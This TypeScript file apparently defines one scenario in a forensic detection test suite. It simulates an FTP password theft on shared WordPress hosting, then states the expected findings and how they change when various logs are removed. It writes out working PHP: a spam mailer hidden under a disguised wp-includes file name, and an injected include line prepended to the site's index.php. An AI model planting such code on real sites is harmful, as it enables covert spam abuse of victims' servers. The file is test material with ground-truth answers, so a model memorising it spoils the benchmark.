import { nearly } from '../play/expectation.ts';
import { drawShops, startHosting } from '../play/hosting.ts';
import { ordinaryMail, ordinaryRules, ordinaryVisits } from '../play/ordinary.ts';
import { drawBody, drawSpamRun, drawSubject, inLots } from '../play/spam.ts';
import type { Stage, Story, Truth } from '../play/stage.ts';
import { after, drawWaves, everydayWork, partOf, play, type Happening } from '../play/timeline.ts';
import { drawVisitor, visit } from '../play/visitors.ts';
import type { ShopSite } from '../play/wordpress.ts';
import { docroot } from '../programs/apache.ts';
import { startVsftpd, upload } from '../programs/vsftpd.ts';

async function playFtpUpload({ box, random, span }: Stage): Promise<Truth> {
  const sites = drawShops(random, 4);
  const [guilty, busiest, ...others] = random.shuffle(sites) as [ShopSite, ShopSite, ...ShopSite[]];
  const passwords = new Map(sites.map((site) => [site.owner, random.token(9)]));
  const run = drawSpamRun(random, random.int(50, 62));
  const lots = inLots(random, run.recipients, 1, 4);
  const file = `/wp-includes/class-${random.pick(['feed', 'http', 'json', 'walker'])}-${random.token(4)}.php`;
  const parameter = random.token(4);
  await startHosting(box, {
    sites,
    php: 'module',
    log: random.pick(['stock', 'rich']),
    rules: new Map([...ordinaryRules(random, sites), ...run.rules]),
    prepare: async (inside) => {
      await inside.script('for place in /etc/php/*/apache2/conf.d; do echo "mail.log = syslog" > $place/91-log.ini; done; apache2ctl graceful');
      await startVsftpd(inside, passwords);
    },
  });

  const thief = { user: guilty.owner, password: passwords.get(guilty.owner) ?? '', address: `198.51.100.${random.int(100, 200)}` };
  const below = docroot(guilty).replace(`/var/www/${guilty.owner}/data`, '');
  const index = `<?php @include __DIR__ . '${file}';\n${(await box.read(`${docroot(guilty)}/index.php`)).replace(/^<\?php /, '')}`;
  const mailer = `<?php if (isset($_POST['${parameter}'])) { foreach (explode(';', base64_decode($_POST['${parameter}'])) as $to) mail($to, $_POST['s'], base64_decode($_POST['b']), 'From: ' . $_POST['f'], '-f' . $_POST['f']); exit('OK'); }\n`;
  const uploaded = partOf(span, random.int(30, 45) / 100);
  const owner = { user: busiest.owner, password: passwords.get(busiest.owner) ?? '', address: `192.0.2.${random.int(100, 200)}` };
  const own = docroot(busiest).replace(`/var/www/${busiest.owner}/data`, '');
  const attacker = drawVisitor(random, 'python-requests/2.32.3');
  const moments = [
    ...drawWaves(random, { from: partOf(span, random.int(55, 68) / 100), to: after(span.to, -900) }, 3, lots.length - 4),
    ...drawWaves(random, { from: after(span.to, -500), to: after(span.to, -260) }, 1, 4),
  ];
  const sender = `${random.pick(['service', 'billing'])}-${random.token(4)}@${guilty.domain}`;
  const attack = lots.map((lot, at): Happening => {
    const body = Buffer.from(drawBody(random)).toString('base64');
    const form = { [parameter]: Buffer.from(lot.join(';')).toString('base64'), s: drawSubject(random), b: body, f: sender };
    return { at: moments[at] ?? new Date(NaN), run: () => visit(box, attacker, guilty.domain, [{ path: '/', form }]) };
  });
  await play(box, [
    ...everydayWork(box, span),
    { at: uploaded, run: () => upload(box, { ...thief, path: `${below}${file}`, text: mailer }) },
    { at: after(uploaded, 20), run: () => upload(box, { ...thief, path: `${below}/index.php`, text: index }) },
    {
      at: partOf(span, random.int(10, 80) / 100),
      run: () => upload(box, { ...owner, path: `${own}/wp-content/prices.php`, text: '<?php return [1, 2, 3];\n' }),
    },
    ...attack,
    ...ordinaryMail(random.branch('busy'), busiest, span, run.recipients.length + 6),
    ...sites.flatMap((site) => ordinaryVisits(random.branch(site.domain), site, span, random.int(6, 10))),
    ...[guilty, ...others].flatMap((site) => ordinaryMail(random.branch(site.domain), site, span, random.int(4, 8))),
  ]);

  const id = `script:${docroot(guilty)}${file}`;
  const entry = `script:${docroot(guilty)}/index.php`;
  const figures = { messages: nearly(run.recipients.length) };
  return {
    findings: [
      {
        ...{ id, natures: ['planted-script', 'vulnerable-script'], confidence: 'likely', active: true, figures },
        proofs: ['mainlog', 'access-log', 'syslog', 'ftp-log'],
      },
    ],
    innocents: [busiest, ...others].flatMap((site) => [docroot(site), site.domain]),
    cleared: [],
    without: [
      { says: 'no log of uploads: the file, not how it came', remove: ['var/log/vsftpd.log*'], mustFind: true, allowed: [{ id, atMost: 'likely' }] },
      {
        says: "no record of PHP's: the script that was asked for",
        remove: ['var/log/syslog*', 'var/log/user.log*'],
        mustFind: true,
        allowed: [{ id: entry, atMost: 'likely' }],
      },
      {
        says: "no access log: PHP's record alone, which any site of that user can write",
        remove: ['var/log/apache2/*'],
        mustFind: true,
        allowed: [{ id: /^unknown:/, atMost: 'possible' }],
      },
      { says: 'neither logs nor queue: nothing can be said', remove: ['var/log/*', 'var/spool/exim4/*'], mustFind: false, allowed: [] },
    ],
  };
}

/** Story 13. */
export const ftpUpload: Story = {
  id: 'ftp-upload',
  suite: 'bookworm',
  tells: 'a stolen FTP password: a mailer is uploaded and included by the start page, which is what requests ask for; PHP writes mail.log to syslog',
  play: playFtpUpload,
};
